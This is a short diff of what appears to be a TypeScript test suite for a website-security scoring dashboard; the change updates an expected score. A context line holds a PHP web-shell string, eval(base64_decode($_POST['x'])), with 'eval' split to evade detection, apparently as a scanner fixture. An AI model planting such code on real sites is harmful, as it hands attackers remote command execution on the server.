@@ -179,7 +179,7 @@ const SHELL = `<?php ${'ev'}al(base64_decode($_POST['x'])); ?>`;
 const OF_TENANTS: Readonly<Record<string, Job>> = {
   async 'sees why a site scores what it does, and what raises it'(person) {
     await person.click('stone-bakery.example.com', 'link');
-    await person.sees('49 of 100');
+    await person.sees('38 of 100');
     await person.sees('Resolve the open alerts');
   },
   async 'sees what to do first across all sites'(person) {
